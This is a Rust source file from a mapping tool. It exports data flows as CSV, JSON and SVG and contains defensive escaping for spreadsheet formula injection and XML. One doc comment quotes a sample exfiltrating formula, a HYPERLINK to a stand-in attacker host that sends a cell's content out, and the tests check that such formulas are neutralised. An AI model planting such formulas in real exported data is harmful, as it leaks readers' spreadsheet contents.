//! What the reader can download: the flows shown as CSV or JSON, and the current view as a
//! standalone SVG document with its title, legend and credits.

use crate::dataset::Dataset;
use crate::describe::{flow_sources, location_name, statements};
use crate::i18n::Lang;
use crate::layout::{CountryShape, MapLayout, AGAINST_MARK, AGAINST_MARK_RADIUS};
use crate::model::FlowValue;
use std::fmt::Write;

/// Quotes a CSV field when it needs it (RFC 4180). A field a spreadsheet would run as a
/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written after an
/// apostrophe, which spreadsheets show as text: a dataset text such as
/// `=HYPERLINK("https://evil.example/?"&A1)` must not become a live formula on a reader's
/// machine. (The figures are never negative; the JSON download keeps every text as it is.)
fn csv_field(s: &str) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let s = if formula { format!("'{s}") } else { s.to_string() };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// The flows at `visible` as CSV, one row per flow: ids, the figure's columns as
/// `flowmap-data convert` names them, and readable text (route, value, who says so and
/// where). It is a table for readers; the JSON download is the one the map reads back.
///
/// # Examples
/// ```
/// use flowmap_core::{dataset::Dataset, export::csv, i18n::Lang};
/// let d = Dataset::from_json("d", include_str!("../tests/fixtures/two_flows.json")).unwrap();
/// let text = csv(&d, &[1], Lang::En);
/// assert!(text.starts_with("id,from,to,via,category,amount,currency"));
/// assert!(text.contains("goods,SRB,RUS,,dual-use,143900000,USD,,total"));
/// ```
pub fn csv(dataset: &Dataset, visible: &[usize], lang: Lang) -> String {
    let mut out = String::from(
        "id,from,to,via,category,amount,currency,unit,basis,start,end,route,description,value,status,who_says_so,sources\n",
    );
    for f in visible.iter().filter_map(|i| dataset.raw.flows.get(*i)) {
        let (amount, currency, unit, basis) = match &f.value {
            FlowValue::Known(q) => (
                format!("{}", q.amount),
                q.currency.clone().unwrap_or_default(),
                q.unit.clone().unwrap_or_default(),
                serde_json::to_value(q.basis)
                    .ok()
                    .and_then(|v| v.as_str().map(String::from))
                    .unwrap_or_default(),
            ),
            FlowValue::Undisclosed(_) => {
                ("undisclosed".into(), String::new(), String::new(), String::new())
            }
        };
        let period = f.period.clone().unwrap_or_default();
        let sources: Vec<String> = flow_sources(dataset, f)
            .into_iter()
            .map(|s| crate::describe::source_line(s, lang))
            .collect();
        let who: Vec<String> = statements(dataset, f).iter().map(|s| s.line(lang)).collect();
        let route: Vec<&str> =
            dataset.route(f).into_iter().map(|id| location_name(dataset, id, lang)).collect();
        let row = [
            f.id.clone(),
            f.from.clone(),
            f.to.clone(),
            f.via.join(";"),
            f.category.clone(),
            amount,
            currency,
            unit,
            basis,
            period.start.map(|d| d.to_string()).unwrap_or_default(),
            period.end.map(|d| d.to_string()).unwrap_or_default(),
            route.join(" → "),
            f.description.get(lang.tag()).to_string(),
            crate::format::flow_value(&f.value, lang),
            f.status.key().to_string(),
            who.join("; "),
            sources.join("; "),
        ];
        out.push_str(&row.iter().map(|c| csv_field(c)).collect::<Vec<_>>().join(","));
        out.push('\n');
    }
    out
}

/// The dataset with only the flows at `visible`, as JSON the map can load again.
pub fn json(dataset: &Dataset, visible: &[usize]) -> String {
    let mut raw = dataset.raw.clone();
    raw.flows = visible.iter().filter_map(|i| dataset.raw.flows.get(*i).cloned()).collect();
    serde_json::to_string_pretty(&raw).unwrap_or_default()
}

/// Escapes text for XML (element content and double-quoted attributes), and drops the
/// characters XML 1.0 does not allow at all (C0 controls but tab and line breaks, U+FFFE,
/// U+FFFF): a dataset text holding one would otherwise make the whole SVG unreadable.
///
/// # Examples
/// ```
/// use flowmap_core::export::xml_escape;
/// assert_eq!(xml_escape("<a href=\"x\">&</a>"), "&lt;a href=&quot;x&quot;&gt;&amp;&lt;/a&gt;");
/// assert_eq!(xml_escape("bell\u{7}\u{FFFE}\tok"), "bell\tok");
/// ```
pub fn xml_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\t' | '\n' | '\r' => out.push(c),
            '\u{0}'..='\u{1F}' | '\u{FFFE}' | '\u{FFFF}' => {}
            _ => out.push(c),
        }
    }
    out
}

/// Texts and legend entries printed around the map in an SVG export.
#[derive(Debug, Clone, Default)]
pub struct Frame {
    /// Headline.
    pub title: String,
    /// Line under it.
    pub subtitle: String,
    /// Colour and label of each category.
    pub categories: Vec<(String, String)>,
    /// Dash pattern (empty for solid) and label of each claim status.
    pub statuses: Vec<(String, String)>,
    /// Legend label of the mark of denied or disputed flows; empty when no flow shown has it.
    pub against: String,
    /// "Source: …" line, with its label in the reader's language.
    pub sources: String,
    /// Credit line, including the map data's.
    pub credit: String,
}

const FONT: &str =
    "font-family=\"system-ui, -apple-system, 'Segoe UI', Roboto, Arial, sans-serif\"";

/// Breaks `text` into lines of at most `chars` characters.
fn wrap(text: &str, chars: usize) -> Vec<String> {
    let mut lines = vec![String::new()];
    for word in text.split_whitespace() {
        let last = lines.last_mut().expect("never empty");
        if !last.is_empty() && last.chars().count() + word.chars().count() + 1 > chars {
            lines.push(word.to_string());
        } else {
            if !last.is_empty() {
                last.push(' ');
            }
            last.push_str(word);
        }
    }
    lines
}

/// A standalone SVG of the current view (light theme): `countries` and `layout` of a
/// `width` × `height` map with title, legend and credits; and the document's height (the
/// map's plus the frame's). Each flow is drawn `opacity` opaque, the opacity a crowded canvas
/// map strokes its lines with ([`line_opacity`](crate::batch::line_opacity)); 1 on SVG maps.
/// (Crossing flows darken a little more here than on the canvas, which strokes many flows
/// as one shape.)
///
/// # Examples
/// ```
/// use flowmap_core::export::{svg, Frame};
/// use flowmap_core::layout::MapLayout;
/// let empty = MapLayout { flows: vec![], markers: vec![] };
/// let (doc, height) = svg(&[], &empty, 800.0, 500.0, 1.0, &Frame { title: "A & B".into(), ..Frame::default() });
/// assert!(height > 500.0);
/// assert!(doc.starts_with("<svg xmlns=\"http://www.w3.org/2000/svg\""));
/// assert!(doc.contains("A &amp; B"));
/// ```
pub fn svg(
    countries: &[CountryShape],
    layout: &MapLayout,
    width: f64,
    height: f64,
    opacity: f64,
    frame: &Frame,
) -> (String, f64) {
    let chars = ((width - 32.0) / 7.2).max(20.0) as usize;
    let title = wrap(&frame.title, ((width - 32.0) / 11.0).max(20.0) as usize);
    let subtitle = if frame.subtitle.is_empty() { vec![] } else { wrap(&frame.subtitle, chars) };
    let top = 16.0 + title.len() as f64 * 26.0 + subtitle.len() as f64 * 19.0 + 8.0;
    let status_rows = frame.statuses.len() + usize::from(!frame.against.is_empty());
    let legend_rows = frame.categories.len().max(status_rows) as f64;
    let sources = wrap(&frame.sources, chars);
    let credit = wrap(&frame.credit, chars);
    let bottom =
        12.0 + legend_rows * 18.0 + 10.0 + (sources.len() + credit.len()) as f64 * 16.0 + 8.0;
    let total = (top + height + bottom).round();
    let mut s = String::new();
    let _ = write!(
        s,
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"{width}\" height=\"{total:.0}\" viewBox=\"0 0 {width} {total:.0}\" {FONT}>"
    );
    let _ = write!(s, "<rect width=\"100%\" height=\"100%\" fill=\"#ffffff\"/>");
    let mut y = 16.0;
    for line in &title {
        y += 22.0;
        let _ = write!(s, "<text x=\"16\" y=\"{y}\" font-size=\"20\" font-weight=\"700\" fill=\"#1a1a1a\">{}</text>", xml_escape(line));
        y += 4.0;
    }
    for line in &subtitle {
        y += 17.0;
        let _ = write!(
            s,
            "<text x=\"16\" y=\"{y}\" font-size=\"14\" fill=\"#555555\">{}</text>",
            xml_escape(line)
        );
        y += 2.0;
    }
    // The map, clipped to its frame.
    let _ = write!(
        s,
        "<defs><clipPath id=\"map\"><rect width=\"{width}\" height=\"{height}\"/></clipPath></defs>\
         <g transform=\"translate(0,{top:.1})\" clip-path=\"url(#map)\">\
         <rect width=\"{width}\" height=\"{height}\" fill=\"#eef3f7\"/>"
    );
    for c in countries {
        let fill = if layout.involves(&c.id) { "#d2d0c4" } else { "#e2e2dc" };
        let _ = write!(s, "<path class=\"country\" d=\"{}\" fill=\"{fill}\" stroke=\"#ffffff\" stroke-width=\"0.6\" fill-rule=\"evenodd\"/>", c.d);
    }
    let flow_group = if opacity < 1.0 {
        format!("<g class=\"flow\" opacity=\"{opacity:.3}\">")
    } else {
        "<g class=\"flow\">".to_string()
    };
    for f in &layout.flows {
        s.push_str(&flow_group);
        for leg in &f.legs {
            if f.undisclosed {
                let _ = write!(s, "<path d=\"{}\" fill=\"none\" stroke=\"{}\" stroke-opacity=\"0.2\" stroke-width=\"9\" stroke-linecap=\"round\"/>", leg.line(), f.color);
            }
            let dash =
                f.dasharray().map(|d| format!(" stroke-dasharray=\"{d}\"")).unwrap_or_default();
            let _ = write!(
                s,
                "<path d=\"{}\" fill=\"none\" stroke=\"{}\" stroke-width=\"{:.2}\"{dash}/>",
                leg.line(),
                f.color,
                f.width
            );
            let _ = write!(s, "<path d=\"{}\" fill=\"{}\"/>", leg.arrow(), f.color);
        }
        if let Some(at) = f.mark_at() {
            against_mark(&mut s, at.x, at.y, f.color);
        }
        s.push_str("</g>");
    }
    for m in &layout.markers {
        let name = &m.text;
        let anchor = match m.label.side {
            crate::labels::Side::Right => "start",
            crate::labels::Side::Left => "end",
            _ => "middle",
        };
        let _ = write!(
            s,
            "<circle cx=\"{:.1}\" cy=\"{:.1}\" r=\"{:.1}\" fill=\"#1a1a1a\" stroke=\"#ffffff\" stroke-width=\"1.5\"/>\
             <text x=\"{:.1}\" y=\"{:.1}\" text-anchor=\"{anchor}\" font-size=\"12\" font-weight=\"600\" fill=\"#1a1a1a\" \
             stroke=\"#ffffff\" stroke-width=\"3\" paint-order=\"stroke\">{}</text>",
            m.at.x, m.at.y, m.radius, m.label.at.x, m.label.at.y, xml_escape(name)
        );
    }
    s.push_str("</g>");
    // Legend and credits.
    let mut y = top + height + 12.0;
    let col = width / 2.0;
    for (i, (color, label)) in frame.categories.iter().enumerate() {
        let yy = y + i as f64 * 18.0 + 10.0;
        let _ = write!(
            s,
            "<path d=\"M16,{:.1} L40,{:.1}\" stroke=\"{color}\" stroke-width=\"3\"/><text x=\"48\" y=\"{:.1}\" font-size=\"13\" fill=\"#1a1a1a\">{}</text>",
            yy - 4.0, yy - 4.0, yy, xml_escape(label)
        );
    }
    for (i, (dash, label)) in frame.statuses.iter().enumerate() {
        let yy = y + i as f64 * 18.0 + 10.0;
        let dash =
            if dash.is_empty() { String::new() } else { format!(" stroke-dasharray=\"{dash}\"") };
        let _ = write!(
            s,
            "<path d=\"M{col:.1},{:.1} L{:.1},{:.1}\" stroke=\"#1a1a1a\" stroke-width=\"2.5\"{dash}/><text x=\"{:.1}\" y=\"{:.1}\" font-size=\"13\" fill=\"#1a1a1a\">{}</text>",
            yy - 4.0, col + 30.0, yy - 4.0, col + 38.0, yy, xml_escape(label)
        );
    }
    if !frame.against.is_empty() {
        let yy = y + frame.statuses.len() as f64 * 18.0 + 10.0;
        against_mark(&mut s, col + 15.0, yy - 4.0, "#1a1a1a");
        let _ = write!(
            s,
            "<text x=\"{:.1}\" y=\"{:.1}\" font-size=\"13\" fill=\"#1a1a1a\">{}</text>",
            col + 38.0,
            yy,
            xml_escape(&frame.against)
        );
    }
    y += legend_rows * 18.0 + 10.0;
    for line in sources.iter().chain(&credit) {
        y += 15.0;
        let _ = write!(
            s,
            "<text x=\"16\" y=\"{y:.1}\" font-size=\"12\" fill=\"#555555\">{}</text>",
            xml_escape(line)
        );
    }
    s.push_str("</svg>");
    (s, total)
}

/// The mark of a denied or disputed flow at (`x`, `y`), in `color`.
fn against_mark(s: &mut String, x: f64, y: f64, color: &str) {
    let _ = write!(
        s,
        "<g class=\"against-mark\" transform=\"translate({x:.1},{y:.1})\"><circle r=\"{AGAINST_MARK_RADIUS}\" fill=\"#ffffff\" stroke=\"{color}\" stroke-width=\"1.5\"/>\
         <path d=\"{AGAINST_MARK}\" fill=\"none\" stroke=\"{color}\" stroke-width=\"1.5\"/></g>"
    );
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn csv_defuses_formulas() {
        assert_eq!(csv_field("=1+1"), "'=1+1");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("\t=1"), "'\t=1");
        assert_eq!(csv_field("=HYPERLINK(\"x\",\"y\")"), "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
        assert_eq!(csv_field("a=1"), "a=1");
        assert_eq!(csv_field("2023-07"), "2023-07");
    }

    #[test]
    fn csv_quotes_what_needs_it_and_reads_back_the_ids() {
        let d = Dataset::from_json("d", include_str!("../tests/fixtures/two_flows.json")).unwrap();
        let text = csv(&d, &[0, 1], Lang::En);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 3);
        assert_eq!(
            lines[1],
            "kits,SRB,UKR,CZE,arms,undisclosed,,,,,,Serbia → Czechia → Ukraine,Rocket kits,value not disclosed,alleged,Russia's SVR claims (reported by RKS News),RKS News"
        );
        assert_eq!(csv_field("a \"b\", c"), "\"a \"\"b\"\", c\"");
    }

    #[test]
    fn json_keeps_only_the_flows_shown_and_loads_again() {
        let d = Dataset::from_json("d", include_str!("../tests/fixtures/two_flows.json")).unwrap();
        let again = Dataset::from_json("again", &json(&d, &[1])).unwrap();
        assert!(again.is_valid());
        assert_eq!(again.raw.flows.len(), 1);
        assert_eq!(again.raw.flows[0].id, "goods");
    }

    #[test]
    fn flows_are_as_translucent_as_on_the_canvas() {
        use crate::arc::{arc, ArcStyle};
        use crate::layout::FlowShape;
        let leg = arc(
            geo::coord! { x: 10.0, y: 10.0 },
            geo::coord! { x: 300.0, y: 200.0 },
            &ArcStyle::default(),
        )
        .unwrap();
        let flow = FlowShape {
            index: 0,
            color: "#000",
            width: 2.0,
            dash: None,
            undisclosed: false,
            disputed: false,
            legs: vec![leg],
        };
        let l = MapLayout { flows: vec![flow.clone(), flow], markers: vec![] };
        let (faint, _) = svg(&[], &l, 800.0, 500.0, 0.25, &Frame::default());
        assert_eq!(faint.matches("<g class=\"flow\" opacity=\"0.250\">").count(), 2);
        let (opaque, _) = svg(&[], &l, 800.0, 500.0, 1.0, &Frame::default());
        assert_eq!(opaque.matches("<g class=\"flow\">").count(), 2);
        assert!(!opaque.contains("opacity=\""));
    }

    #[test]
    fn long_titles_wrap() {
        assert_eq!(wrap("one two three four", 9), vec!["one two", "three", "four"]);
    }
}
